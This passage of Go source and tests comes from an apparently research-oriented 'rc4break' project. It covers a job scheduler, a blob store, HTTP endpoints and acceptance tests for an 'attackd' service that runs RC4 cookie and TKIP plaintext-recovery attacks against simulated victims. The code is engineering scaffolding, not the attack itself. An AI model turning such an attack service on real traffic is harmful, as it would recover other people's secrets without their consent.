	positions := tkip.TrailerPositions(len(netsim.NewWiFiVictim(tkip.DemoSession(), tkip.DemoPayload).MSDU))
	m, err := tkip.Train(tkip.TrainConfig{
		Positions:  positions[len(positions)-1],
		KeysPerTSC: trainKeys,
	})
	if err != nil {
		return nil, err
	}
	if sharedModels.m == nil {
		sharedModels.m = make(map[uint64]*tkip.PerTSCModel)
	}
	sharedModels.m[trainKeys] = m
	return m, nil
}

// SoloRun executes one job spec start-to-finish in-process: no scheduler,
// no store, no server — the pure function of the spec that the service
// must reproduce bitwise. It returns the online result and the final
// evidence snapshot bytes. A budget-exhausted run returns its result and
// evidence alongside online.ErrBudgetExhausted.
func SoloRun(spec JobSpec) (online.Result, []byte, error) {
	spec, err := spec.Normalize()
	if err != nil {
		return online.Result{}, nil, err
	}
	var model *tkip.PerTSCModel
	if spec.Attack == "tkip" {
		if model, err = SharedModel(spec.TrainKeys); err != nil {
			return online.Result{}, nil, err
		}
	}
	rt, err := newJobRuntime(spec, nil, model)
	if err != nil {
		return online.Result{}, nil, err
	}
	res, runErr := online.Run(online.Config{
		Decoder:       rt.decoder,
		Oracle:        rt.oracle,
		Cadence:       spec.cadence(),
		MaxCandidates: spec.MaxCandidates,
		Budget:        spec.Budget,
		Feed:          &chunkedFeed{chunk: spec.CaptureChunk, observed: rt.observed, capture: rt.capture},
	})
	if runErr != nil && !errors.Is(runErr, online.ErrBudgetExhausted) {
		return res, nil, runErr
	}
	snap, err := rt.evidence()
	if err != nil {
		return res, nil, err
	}
	return res, snap, runErr
}
