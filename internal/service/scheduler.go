package service

import (
	"errors"
	"sync"
)

// Stop causes delivered to waiters; the server distinguishes a graceful
// drain (checkpoint and suspend) from a simulated crash (exit without
// touching the store — the restart test's stand-in for kill -9).
var (
	errDrained     = errors.New("service: scheduler drained")
	errInterrupted = errors.New("service: scheduler interrupted")
)

// Scheduler allocates the service's bounded compute slots. Every unit of
// job work — one capture granule, one decode round — holds one slot, so
// Capacity bounds the process's concurrent attack computation regardless of
// how many jobs are admitted.
//
// Allocation is fair-share across tenants: released slots are granted
// round-robin over tenants with waiters (FIFO within a tenant), so one
// tenant queueing a thousand granules cannot starve another's single job —
// each gets alternating grants. Fairness shapes only *when* a job's next
// granule runs, never what the granule computes; scheduler transparency is
// the package invariant.
type Scheduler struct {
	mu       sync.Mutex
	capacity int
	inUse    int
	// rotation is every tenant that ever waited, in first-wait order; the
	// cursor walks it round-robin. Tenants persist across empty periods so
	// long-lived tenants keep stable positions.
	rotation []string
	cursor   int
	queues   map[string][]chan error
	waiting  int
	stopErr  error
}

// NewScheduler creates a scheduler with the given slot capacity (minimum 1).
func NewScheduler(capacity int) *Scheduler {
	if capacity < 1 {
		capacity = 1
	}
	return &Scheduler{capacity: capacity, queues: make(map[string][]chan error)}
}

// Acquire blocks until the tenant is granted a slot (or the scheduler is
// stopped, returning the stop error). Callers pair every successful Acquire
// with exactly one Release.
func (s *Scheduler) Acquire(tenant string) error {
	s.mu.Lock()
	if s.stopErr != nil {
		err := s.stopErr
		s.mu.Unlock()
		return err
	}
	if s.inUse < s.capacity {
		s.inUse++
		s.mu.Unlock()
		return nil
	}
	w := make(chan error, 1)
	if _, seen := s.queues[tenant]; !seen {
		s.rotation = append(s.rotation, tenant)
	}
	s.queues[tenant] = append(s.queues[tenant], w)
	s.waiting++
	s.mu.Unlock()
	return <-w
}

// Release returns a slot; if tenants are waiting the slot passes directly
// to the next one in the rotation.
func (s *Scheduler) Release() {
	s.mu.Lock()
	defer s.mu.Unlock()
	for i := 0; i < len(s.rotation); i++ {
		t := s.rotation[(s.cursor+i)%len(s.rotation)]
		q := s.queues[t]
		if len(q) == 0 {
			continue
		}
		w := q[0]
		s.queues[t] = q[1:]
		s.waiting--
		s.cursor = (s.cursor + i + 1) % len(s.rotation)
		w <- nil // slot ownership transfers; inUse unchanged
		return
	}
	s.inUse--
}

// Stop wakes every waiter (and all future Acquires) with err.
func (s *Scheduler) Stop(err error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.stopErr != nil {
		return
	}
	s.stopErr = err
	for _, t := range s.rotation {
		for _, w := range s.queues[t] {
			w <- err
		}
		s.queues[t] = nil
	}
	s.waiting = 0
}

// Waiting reports queued Acquires (the queue-depth metric).
func (s *Scheduler) Waiting() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.waiting
}

// InUse reports slots currently held.
func (s *Scheduler) InUse() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.inUse
}
