package service

import (
	"bytes"
	"encoding/hex"
	"reflect"
	"testing"

	"rc4break/internal/snapshot"
)

func TestStoreBlobDedupAndRoundTrip(t *testing.T) {
	st, err := OpenStore(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	payload := []byte("evidence snapshot bytes")
	k1, existed, err := st.PutBlob(payload)
	if err != nil || existed {
		t.Fatalf("first put: existed=%v err=%v", existed, err)
	}
	k2, existed, err := st.PutBlob(payload)
	if err != nil || !existed || k2 != k1 {
		t.Fatalf("second put: key=%x existed=%v err=%v, want key=%x existed=true", k2, existed, err, k1)
	}
	if n, _ := st.BlobCount(); n != 1 {
		t.Fatalf("BlobCount after dedup = %d, want 1", n)
	}
	got, err := st.GetBlob(k1)
	if err != nil || !bytes.Equal(got, payload) {
		t.Fatalf("GetBlob: %q err=%v", got, err)
	}
	if !st.HasBlob(k1) {
		t.Fatal("HasBlob false for stored key")
	}
	k3, _, err := st.PutBlob([]byte("different payload"))
	if err != nil || k3 == k1 {
		t.Fatalf("distinct payload collided: %x err=%v", k3, err)
	}
	keys, err := st.BlobKeys()
	if err != nil || len(keys) != 2 {
		t.Fatalf("BlobKeys = %v err=%v, want 2 keys", keys, err)
	}
	wantA, wantB := hex.EncodeToString(k1[:]), hex.EncodeToString(k3[:])
	if wantA > wantB {
		wantA, wantB = wantB, wantA
	}
	if keys[0] != wantA || keys[1] != wantB {
		t.Fatalf("BlobKeys = %v, want sorted [%s %s]", keys, wantA, wantB)
	}
}

// TestStoreGetBlobDetectsMismatchedContent rewrites a blob file with a valid
// envelope holding different bytes: the envelope CRC passes but the content
// no longer hashes to its own name, and GetBlob must refuse to serve it.
func TestStoreGetBlobDetectsMismatchedContent(t *testing.T) {
	st, err := OpenStore(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	key, _, err := st.PutBlob([]byte("original evidence"))
	if err != nil {
		t.Fatal(err)
	}
	if err := snapshot.WriteFile(st.blobPath(key), blobKind, []byte("swapped evidence")); err != nil {
		t.Fatal(err)
	}
	if _, err := st.GetBlob(key); err == nil {
		t.Fatal("GetBlob served a blob whose content does not match its address")
	}
	// Wrong envelope kind at the right address must also fail.
	if err := snapshot.WriteFile(st.blobPath(key), manifestKind, []byte("original evidence")); err != nil {
		t.Fatal(err)
	}
	if _, err := st.GetBlob(key); err == nil {
		t.Fatal("GetBlob served an envelope of the wrong kind")
	}
}

func TestStoreManifests(t *testing.T) {
	st, err := OpenStore(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	mans := []Manifest{
		{ID: "j-0002", Tenant: "t2", State: StateQueued,
			Spec: JobSpec{Attack: "tkip", Mode: "model", TrainKeys: 1 << 10}},
		{ID: "j-0000", Tenant: "t0", State: StateDone,
			Spec:     JobSpec{Attack: "cookie", Mode: "model", Secret: "C00kie", Seed: 7},
			Evidence: "deadbeef", Observed: 1 << 20, Rounds: 2,
			Result: JobResult{Success: true, Plaintext: []byte("C00kie"), Rank: 3, Checks: 11}},
		{ID: "j-0001", Tenant: "t1", State: StateSuspended,
			Spec: JobSpec{Attack: "cookie", Mode: "exact", Secret: "xy", Seed: 9}, Observed: 512},
	}
	for _, m := range mans {
		if err := st.PutManifest(m); err != nil {
			t.Fatalf("put %s: %v", m.ID, err)
		}
	}
	for _, m := range mans {
		got, err := st.GetManifest(m.ID)
		if err != nil {
			t.Fatalf("get %s: %v", m.ID, err)
		}
		if !reflect.DeepEqual(got, m) {
			t.Fatalf("manifest %s round-trip:\n got %+v\nwant %+v", m.ID, got, m)
		}
	}
	all, err := st.Manifests()
	if err != nil {
		t.Fatal(err)
	}
	if len(all) != 3 || all[0].ID != "j-0000" || all[1].ID != "j-0001" || all[2].ID != "j-0002" {
		t.Fatalf("Manifests order: got %d entries %v", len(all), []string{all[0].ID, all[1].ID, all[2].ID})
	}
	// Overwrite is an atomic replace.
	upd := mans[0] // j-0002
	upd.State = StateRunning
	if err := st.PutManifest(upd); err != nil {
		t.Fatal(err)
	}
	if got, _ := st.GetManifest("j-0002"); got.State != StateRunning {
		t.Fatalf("updated manifest state = %q, want running", got.State)
	}
	if err := st.PutManifest(Manifest{}); err == nil {
		t.Fatal("PutManifest accepted an empty job ID")
	}
}
