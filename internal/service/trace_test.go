package service

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"testing"

	"rc4break/internal/obs"
)

// TestJobTracingAndHistograms pins the service's observability surface: a
// submitted trace_id threads every lifecycle span (admit, run, granule,
// decode round) onto the submitter's trace, the spans nest correctly, the
// journal is served live at /debug/trace{,/chrome}, and the latency
// histogram families appear on /metrics.
func TestJobTracingAndHistograms(t *testing.T) {
	store, err := OpenStore(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	journal := obs.NewJournal("attackd", 1024)
	s, err := New(Config{Store: store, Capacity: 1, Tracer: journal, Logf: t.Logf})
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	// trace_id is validated at admission.
	for _, bad := range []string{"not-hex", "00112233445566778899", "0"} {
		if _, err := s.Submit("mallory", JobSpec{Attack: "cookie", Secret: "C00kie", TraceID: bad}); err == nil {
			t.Fatalf("trace_id %q accepted, want rejection", bad)
		}
	}

	spec := JobSpec{Attack: "cookie", Mode: "model", Seed: 3, Secret: "C00kie",
		Budget: 1 << 16, FirstDecode: 1 << 15, MaxCandidates: 1 << 8, TraceID: "ab54a98ceb1f0ad2"}
	st, err := s.Submit("alice", spec)
	if err != nil {
		t.Fatal(err)
	}
	s.Wait()

	recs := journal.Snapshot()
	byName := map[string][]obs.Record{}
	spanByID := map[uint64]obs.Record{}
	for _, r := range recs {
		if r.Trace != 0xab54a98ceb1f0ad2 {
			t.Fatalf("span %s under trace %x, want the submitted trace", r.Name, r.Trace)
		}
		byName[r.Name] = append(byName[r.Name], r)
		spanByID[r.Span] = r
	}
	for _, name := range []string{"job.admit", "job.run", "job.granule", "job.decode"} {
		if len(byName[name]) == 0 {
			t.Fatalf("no %s spans (have %v)", name, byName)
		}
	}
	run := byName["job.run"][0]
	attrs := map[string]string{}
	for _, a := range run.Attrs {
		attrs[a.Key] = a.Str
	}
	if attrs["tenant"] != "alice" || attrs["job"] != st.ID || attrs["outcome"] == "" {
		t.Fatalf("job.run attrs %v", attrs)
	}
	for _, name := range []string{"job.granule", "job.decode"} {
		for _, r := range byName[name] {
			if r.Parent != run.Span {
				t.Fatalf("%s parent %x, want the job.run span %x", name, r.Parent, run.Span)
			}
		}
	}

	get := func(path string) (int, []byte) {
		resp, err := http.Get(ts.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var buf bytes.Buffer
		if _, err := buf.ReadFrom(resp.Body); err != nil {
			t.Fatal(err)
		}
		return resp.StatusCode, buf.Bytes()
	}
	if code, body := get("/debug/trace"); code != http.StatusOK || !bytes.Contains(body, []byte(`"job.run"`)) {
		t.Fatalf("/debug/trace: http %d, job.run missing", code)
	}
	if code, body := get("/debug/trace/chrome"); code != http.StatusOK || !bytes.Contains(body, []byte(`"traceEvents"`)) {
		t.Fatalf("/debug/trace/chrome: http %d, not a trace-event document", code)
	}
	if code, _ := get("/debug/pprof/"); code != http.StatusOK {
		t.Fatalf("/debug/pprof/: http %d", code)
	}
	code, body := get("/metrics")
	if code != http.StatusOK {
		t.Fatalf("/metrics: http %d", code)
	}
	for _, family := range []string{
		"attackd_decode_round_seconds_bucket", "attackd_decode_round_seconds_count",
		"attackd_granule_seconds_bucket", "attackd_http_request_seconds_bucket",
		"go_goroutines", "go_heap_alloc_bytes",
	} {
		if !bytes.Contains(body, []byte(family)) {
			t.Fatalf("/metrics missing %s", family)
		}
	}
}

// TestTracingBitwiseIdenticalService pins the hot-path rule at the service
// layer: the same spec run with and without a Tracer produces identical
// evidence blobs and results.
func TestTracingBitwiseIdenticalService(t *testing.T) {
	spec := JobSpec{Attack: "cookie", Mode: "model", Seed: 11, Secret: "C00kie",
		Budget: 1 << 16, FirstDecode: 1 << 15, MaxCandidates: 1 << 8}
	run := func(tracer *obs.Journal) ([]byte, JobStatus) {
		store, err := OpenStore(t.TempDir())
		if err != nil {
			t.Fatal(err)
		}
		s, err := New(Config{Store: store, Capacity: 1, Tracer: tracer})
		if err != nil {
			t.Fatal(err)
		}
		st, err := s.Submit("t", spec)
		if err != nil {
			t.Fatal(err)
		}
		s.Wait()
		ev, err := s.EvidenceBytes(st.ID)
		if err != nil {
			t.Fatal(err)
		}
		st, err = s.Status(st.ID)
		if err != nil {
			t.Fatal(err)
		}
		return ev, st
	}
	evPlain, stPlain := run(nil)
	evTraced, stTraced := run(obs.NewJournal("attackd", 1024))
	if !bytes.Equal(evPlain, evTraced) {
		t.Fatalf("evidence differs with tracing on: %d vs %d bytes", len(evPlain), len(evTraced))
	}
	if stPlain.State != stTraced.State || stPlain.Observed != stTraced.Observed ||
		stPlain.Rounds != stTraced.Rounds || stPlain.Rank != stTraced.Rank ||
		stPlain.Success != stTraced.Success {
		t.Fatalf("status differs with tracing on:\n  plain  %+v\n  traced %+v", stPlain, stTraced)
	}
}
