package service

import (
	"encoding/json"
	"errors"
	"net/http"

	"rc4break/internal/metrics"
	"rc4break/internal/obs"
)

// SubmitRequest is the POST /api/v1/jobs body.
type SubmitRequest struct {
	Tenant string  `json:"tenant"`
	Spec   JobSpec `json:"spec"`
}

// Handler serves the job API:
//
//	POST /api/v1/jobs              submit  {tenant, spec} -> JobStatus
//	GET  /api/v1/jobs[?tenant=t]   list
//	GET  /api/v1/jobs/{id}         status
//	GET  /api/v1/jobs/{id}/stream  progress events as JSON lines until terminal
//	GET  /api/v1/jobs/{id}/result  terminal JobStatus (409 while unfinished)
//	GET  /api/v1/jobs/{id}/evidence  the evidence blob (snapshot envelope)
//	GET  /metrics                  Prometheus text format
//	GET  /healthz                  200 until drain begins
//	GET  /debug/trace              span journal as NDJSON (when Config.Tracer set)
//	GET  /debug/trace/chrome       span journal as Chrome trace-event JSON
//	GET  /debug/pprof/...          net/http/pprof
//
// Every request's service time lands in attackd_http_request_seconds.
func (s *Server) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /api/v1/jobs", s.handleSubmit)
	mux.HandleFunc("GET /api/v1/jobs", s.handleList)
	mux.HandleFunc("GET /api/v1/jobs/{id}", s.handleStatus)
	mux.HandleFunc("GET /api/v1/jobs/{id}/stream", s.handleStream)
	mux.HandleFunc("GET /api/v1/jobs/{id}/result", s.handleResult)
	mux.HandleFunc("GET /api/v1/jobs/{id}/evidence", s.handleEvidence)
	mux.Handle("GET /metrics", s.reg.Handler())
	mux.Handle("GET /healthz", metrics.Healthz(s.Ready))
	obs.MountDebug(mux, s.cfg.Tracer)
	return metrics.ObserveHandler(s.httpSeconds, mux)
}

func writeJSON(w http.ResponseWriter, code int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	_ = json.NewEncoder(w).Encode(v)
}

func writeError(w http.ResponseWriter, err error) {
	code := http.StatusInternalServerError
	switch {
	case errors.Is(err, ErrNotFound):
		code = http.StatusNotFound
	case errors.Is(err, ErrTenantBusy), errors.Is(err, ErrQueueFull):
		code = http.StatusTooManyRequests
	case errors.Is(err, ErrDraining):
		code = http.StatusServiceUnavailable
	case errors.Is(err, ErrNotDone):
		code = http.StatusConflict
	}
	writeJSON(w, code, map[string]string{"error": err.Error()})
}

func (s *Server) handleSubmit(w http.ResponseWriter, r *http.Request) {
	var req SubmitRequest
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
		writeJSON(w, http.StatusBadRequest, map[string]string{"error": "bad request body: " + err.Error()})
		return
	}
	st, err := s.Submit(req.Tenant, req.Spec)
	if err != nil {
		switch {
		case errors.Is(err, ErrTenantBusy), errors.Is(err, ErrQueueFull), errors.Is(err, ErrDraining):
			writeError(w, err)
		default:
			writeJSON(w, http.StatusBadRequest, map[string]string{"error": err.Error()})
		}
		return
	}
	writeJSON(w, http.StatusAccepted, st)
}

func (s *Server) handleList(w http.ResponseWriter, r *http.Request) {
	writeJSON(w, http.StatusOK, s.List(r.URL.Query().Get("tenant")))
}

func (s *Server) handleStatus(w http.ResponseWriter, r *http.Request) {
	st, err := s.Status(r.PathValue("id"))
	if err != nil {
		writeError(w, err)
		return
	}
	writeJSON(w, http.StatusOK, st)
}

// handleStream writes the job's events as JSON lines, flushing each, until
// the job reaches a terminal state (done, failed, or suspended by a drain).
func (s *Server) handleStream(w http.ResponseWriter, r *http.Request) {
	id := r.PathValue("id")
	if _, err := s.Status(id); err != nil {
		writeError(w, err)
		return
	}
	w.Header().Set("Content-Type", "application/x-ndjson")
	flusher, _ := w.(http.Flusher)
	enc := json.NewEncoder(w)
	seq := 0
	for {
		evs, terminal, err := s.EventsSince(id, seq)
		if err != nil {
			return
		}
		for _, ev := range evs {
			if enc.Encode(ev) != nil {
				return // client went away
			}
			seq = ev.Seq
		}
		if flusher != nil {
			flusher.Flush()
		}
		if terminal {
			return
		}
	}
}

func (s *Server) handleResult(w http.ResponseWriter, r *http.Request) {
	st, err := s.Status(r.PathValue("id"))
	if err != nil {
		writeError(w, err)
		return
	}
	if st.State != StateDone && st.State != StateFailed {
		writeError(w, ErrNotDone)
		return
	}
	writeJSON(w, http.StatusOK, st)
}

func (s *Server) handleEvidence(w http.ResponseWriter, r *http.Request) {
	payload, err := s.EvidenceBytes(r.PathValue("id"))
	if err != nil {
		writeError(w, err)
		return
	}
	w.Header().Set("Content-Type", "application/octet-stream")
	_, _ = w.Write(payload)
}
