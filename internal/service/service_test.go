package service

import (
	"bytes"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"reflect"
	"sort"
	"sync"
	"testing"
	"time"

	"rc4break/internal/cliutil"
	"rc4break/internal/netsim"
	"rc4break/internal/online"
	"rc4break/internal/snapshot"
)

// loadSpec maps a simulated victim to a job spec sized for test runtimes:
// model-mode jobs at paper-scale budgets (cookie successes land around
// 9<<26 records), exact-mode jobs at small budgets that exhaust quickly —
// the bitwise comparison against SoloRun is what matters, not the outcome.
func loadSpec(v netsim.SimVictim) JobSpec {
	if v.Attack == "tkip" {
		if v.Index%8 == 7 {
			// Seed is pinned to 0 by Normalize: these specs are identical
			// across victims, so their evidence blobs must dedup to one file.
			return JobSpec{Attack: "tkip", Mode: "exact", Budget: 1 << 15, FirstDecode: 1 << 14,
				MaxCandidates: 1 << 12, TrainKeys: 1 << 12, CheckpointRounds: 100}
		}
		return JobSpec{Attack: "tkip", Mode: "model", Seed: v.Seed, Budget: 9 << 20,
			FirstDecode: 1 << 20, MaxCandidates: 1 << 12, TrainKeys: 1 << 12, CheckpointRounds: 100}
	}
	spec := JobSpec{Attack: "cookie", Mode: "model", Seed: v.Seed, Secret: v.Secret,
		Budget: 9 << 27, FirstDecode: 9 << 25, MaxCandidates: 1 << 10, CheckpointRounds: 100}
	if v.Index%12 == 2 {
		spec.Mode = "exact"
		spec.Budget = 1 << 15
		spec.FirstDecode = 1 << 14
	}
	return spec
}

// soloRunner caches SoloRun results by resolved spec so duplicate-spec jobs
// cost one reference run.
type soloRunner struct {
	mu    sync.Mutex
	cache map[string]soloOut
}

type soloOut struct {
	res  online.Result
	snap []byte
	err  error
}

func (sr *soloRunner) run(t *testing.T, spec JobSpec) (online.Result, []byte, error) {
	t.Helper()
	norm, err := spec.Normalize()
	if err != nil {
		t.Fatalf("normalize: %v", err)
	}
	keyBytes, err := json.Marshal(norm)
	if err != nil {
		t.Fatal(err)
	}
	key := string(keyBytes)
	sr.mu.Lock()
	defer sr.mu.Unlock()
	if out, ok := sr.cache[key]; ok {
		return out.res, out.snap, out.err
	}
	res, snap, runErr := SoloRun(spec)
	if runErr != nil && !errors.Is(runErr, online.ErrBudgetExhausted) {
		t.Fatalf("solo run failed: %v", runErr)
	}
	if sr.cache == nil {
		sr.cache = make(map[string]soloOut)
	}
	sr.cache[key] = soloOut{res, snap, runErr}
	return res, snap, runErr
}

func submitHTTP(base, tenant string, spec JobSpec) (JobStatus, int, error) {
	body, err := json.Marshal(SubmitRequest{Tenant: tenant, Spec: spec})
	if err != nil {
		return JobStatus{}, 0, err
	}
	resp, err := http.Post(base+"/api/v1/jobs", "application/json", bytes.NewReader(body))
	if err != nil {
		return JobStatus{}, 0, err
	}
	defer resp.Body.Close()
	var st JobStatus
	if resp.StatusCode != http.StatusAccepted {
		var e struct {
			Error string `json:"error"`
		}
		_ = json.NewDecoder(resp.Body).Decode(&e)
		return st, resp.StatusCode, fmt.Errorf("submit: http %d: %s", resp.StatusCode, e.Error)
	}
	err = json.NewDecoder(resp.Body).Decode(&st)
	return st, resp.StatusCode, err
}

func getJSON(t *testing.T, url string, v any) int {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
	defer resp.Body.Close()
	if resp.StatusCode == http.StatusOK && v != nil {
		if err := json.NewDecoder(resp.Body).Decode(v); err != nil {
			t.Fatalf("GET %s: decode: %v", url, err)
		}
	}
	return resp.StatusCode
}

func getBody(t *testing.T, url string) (int, []byte) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
	defer resp.Body.Close()
	var buf bytes.Buffer
	if _, err := buf.ReadFrom(resp.Body); err != nil {
		t.Fatalf("GET %s: read: %v", url, err)
	}
	return resp.StatusCode, buf.Bytes()
}

// TestServiceLoadAcceptance is the tentpole acceptance test: a generated
// population of 32 victims (mixed cookie/TKIP, model/exact, four tenants)
// plus two duplicate-spec submissions all run concurrently through the HTTP
// API over four scheduler slots, with jittered submission times — and every
// job's evidence bytes, rank, observed count, rounds, checks and skips must
// be bitwise-identical to an unscheduled SoloRun of the same spec. It then
// checks the store deduplicated shared payloads: one model blob for all
// TKIP jobs, one evidence blob per distinct spec, and nothing else.
func TestServiceLoadAcceptance(t *testing.T) {
	pop := netsim.Population(netsim.PopulationConfig{
		Victims: 32, Tenants: 4, Seed: 1, TKIPEvery: 4, MaxJitterMS: 25,
	})
	store, err := OpenStore(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	var results bytes.Buffer
	s, err := New(Config{Store: store, Capacity: 4, Logf: t.Logf, Results: &results})
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	type sub struct {
		tenant string
		spec   JobSpec
		jitter time.Duration
	}
	subs := make([]sub, 0, len(pop)+2)
	for _, v := range pop {
		subs = append(subs, sub{v.Tenant, loadSpec(v), time.Duration(v.JitterMS) * time.Millisecond})
	}
	// Two extra tenants submit victim 0's exact spec: content addressing
	// must collapse all three final evidence blobs into one file.
	subs = append(subs,
		sub{"tenant-extra-a", loadSpec(pop[0]), 0},
		sub{"tenant-extra-b", loadSpec(pop[0]), 5 * time.Millisecond})
	if len(subs) < 32 {
		t.Fatalf("load test has %d jobs, want >= 32", len(subs))
	}

	ids := make([]string, len(subs))
	var wg sync.WaitGroup
	for i, sb := range subs {
		wg.Add(1)
		go func(i int, sb sub) {
			defer wg.Done()
			time.Sleep(sb.jitter)
			st, code, err := submitHTTP(ts.URL, sb.tenant, sb.spec)
			if err != nil || code != http.StatusAccepted {
				t.Errorf("submit %d: code=%d err=%v", i, code, err)
				return
			}
			ids[i] = st.ID
		}(i, sb)
	}
	wg.Wait()
	if t.Failed() {
		t.Fatal("submissions failed")
	}
	s.Wait()

	solo := &soloRunner{}
	expected := make(map[string]bool) // every blob key the store should hold
	modelKey := ""
	successes := 0
	statuses := make([]JobStatus, len(subs))
	for i := range subs {
		var st JobStatus
		if code := getJSON(t, ts.URL+"/api/v1/jobs/"+ids[i]+"/result", &st); code != http.StatusOK {
			t.Fatalf("job %s result: http %d", ids[i], code)
		}
		statuses[i] = st
		if st.State != StateDone {
			t.Fatalf("job %s state %q (error %q), want done", ids[i], st.State, st.Error)
		}
		res, snap, runErr := solo.run(t, subs[i].spec)
		if runErr == nil {
			successes++
		}
		if st.Success != (runErr == nil) {
			t.Errorf("job %s success=%v, solo success=%v", ids[i], st.Success, runErr == nil)
		}
		if st.Rank != res.Rank || st.Observed != res.Observed || st.Rounds != res.Rounds ||
			st.Checks != res.Checks || st.Skipped != res.Skipped {
			t.Errorf("job %s diverged from solo: rank %d/%d observed %d/%d rounds %d/%d checks %d/%d skipped %d/%d",
				ids[i], st.Rank, res.Rank, st.Observed, res.Observed, st.Rounds, res.Rounds,
				st.Checks, res.Checks, st.Skipped, res.Skipped)
		}
		if st.Plaintext != hex.EncodeToString(res.Plaintext) {
			t.Errorf("job %s plaintext %q, solo %q", ids[i], st.Plaintext, hex.EncodeToString(res.Plaintext))
		}
		code, ev := getBody(t, ts.URL+"/api/v1/jobs/"+ids[i]+"/evidence")
		if code != http.StatusOK {
			t.Fatalf("job %s evidence: http %d", ids[i], code)
		}
		if !bytes.Equal(ev, snap) {
			t.Errorf("job %s evidence (%d bytes) is not bitwise-identical to solo evidence (%d bytes)",
				ids[i], len(ev), len(snap))
		}
		k := snapshot.BlobKey(blobKind, snap)
		if want := hex.EncodeToString(k[:]); st.Evidence != want {
			t.Errorf("job %s evidence key %s, want content address %s", ids[i], st.Evidence, want)
		}
		expected[st.Evidence] = true
		if subs[i].spec.Attack == "tkip" {
			if st.Model == "" {
				t.Errorf("job %s: tkip job without model key", ids[i])
			} else if modelKey == "" {
				modelKey = st.Model
			} else if st.Model != modelKey {
				t.Errorf("job %s model key %s, want shared %s", ids[i], st.Model, modelKey)
			}
		}
	}
	if successes == 0 {
		t.Error("no job in the load mix recovered its secret; the mix should include successes")
	}

	// Duplicate-spec groups share one evidence blob: victim 0 and the two
	// extra submissions, and the four identical exact-mode TKIP specs.
	if statuses[len(pop)].Evidence != statuses[0].Evidence || statuses[len(pop)+1].Evidence != statuses[0].Evidence {
		t.Errorf("duplicate cookie specs did not share an evidence blob: %s %s %s",
			statuses[0].Evidence, statuses[len(pop)].Evidence, statuses[len(pop)+1].Evidence)
	}
	var tkipExact []string
	for i := range subs {
		if subs[i].spec.Attack == "tkip" && subs[i].spec.Mode == "exact" {
			tkipExact = append(tkipExact, statuses[i].Evidence)
		}
	}
	if len(tkipExact) < 2 {
		t.Fatalf("load mix has %d exact tkip jobs, want >= 2", len(tkipExact))
	}
	for _, k := range tkipExact[1:] {
		if k != tkipExact[0] {
			t.Errorf("identical tkip specs did not share an evidence blob: %v", tkipExact)
		}
	}

	// The store holds exactly the distinct evidence blobs plus the one
	// shared model blob — no duplicates, no strays.
	if modelKey == "" {
		t.Fatal("no tkip job recorded a model key")
	}
	expected[modelKey] = true
	want := make([]string, 0, len(expected))
	for k := range expected {
		want = append(want, k)
	}
	sort.Strings(want)
	got, err := store.BlobKeys()
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("store holds %d blobs, want exactly the %d distinct payloads (dedup failed or strays written)",
			len(got), len(want))
	}
	if len(want) >= len(subs) {
		t.Errorf("%d blobs for %d jobs: duplicate-spec payloads were not deduplicated", len(want), len(subs))
	}

	// Satellite: the results stream carries one CLI-schema line per job with
	// job/tenant attribution set.
	seen := make(map[string]bool)
	dec := json.NewDecoder(&results)
	for dec.More() {
		var r cliutil.RunResult
		if err := dec.Decode(&r); err != nil {
			t.Fatalf("results stream: %v", err)
		}
		if r.Job == "" || r.Tenant == "" {
			t.Fatalf("results line missing job/tenant attribution: %+v", r)
		}
		seen[r.Job] = true
	}
	if len(seen) != len(subs) {
		t.Errorf("results stream covered %d jobs, want %d", len(seen), len(subs))
	}

	// Metrics reflect the finished fleet.
	code, metricsBody := getBody(t, ts.URL+"/metrics")
	if code != http.StatusOK {
		t.Fatalf("/metrics: http %d", code)
	}
	doneLine := fmt.Sprintf("attackd_jobs{state=%q} %d", StateDone, len(subs))
	if !bytes.Contains(metricsBody, []byte(doneLine)) {
		t.Errorf("/metrics missing %q", doneLine)
	}
	for _, name := range []string{"attackd_observations_total", "attackd_decode_rounds_total",
		"attackd_decode_seconds_total", "attackd_store_blobs", "attackd_queue_depth"} {
		if !bytes.Contains(metricsBody, []byte(name)) {
			t.Errorf("/metrics missing %s", name)
		}
	}
}

// crashSpecs are the restart tests' workload: multi-round model-mode cookie
// jobs checkpointing every round, so an interrupt always lands with durable
// mid-run state behind it.
func crashSpecs() ([]JobSpec, []string) {
	specs := []JobSpec{
		{Attack: "cookie", Mode: "model", Seed: 101, Secret: "Badger7+",
			Budget: 9 << 27, FirstDecode: 9 << 25, MaxCandidates: 1 << 10, CheckpointRounds: 1},
		{Attack: "cookie", Mode: "model", Seed: 102, Secret: "C00kie",
			Budget: 9 << 27, FirstDecode: 9 << 25, MaxCandidates: 1 << 10, CheckpointRounds: 1},
		{Attack: "cookie", Mode: "model", Seed: 103, Secret: "Waldo42",
			Budget: 9 << 27, FirstDecode: 9 << 25, MaxCandidates: 1 << 10, CheckpointRounds: 1},
	}
	return specs, []string{"t-a", "t-b", "t-c"}
}

// TestServiceCrashRestartResumesByteIdentical kills the service mid-job
// (Interrupt: no final writes, the durable state is whatever the last
// ordinary checkpoint left — a kill -9 stand-in), restarts a fresh server
// over the same store, resumes, and requires every job's outcome and
// evidence bytes to match an uninterrupted control run — and the two
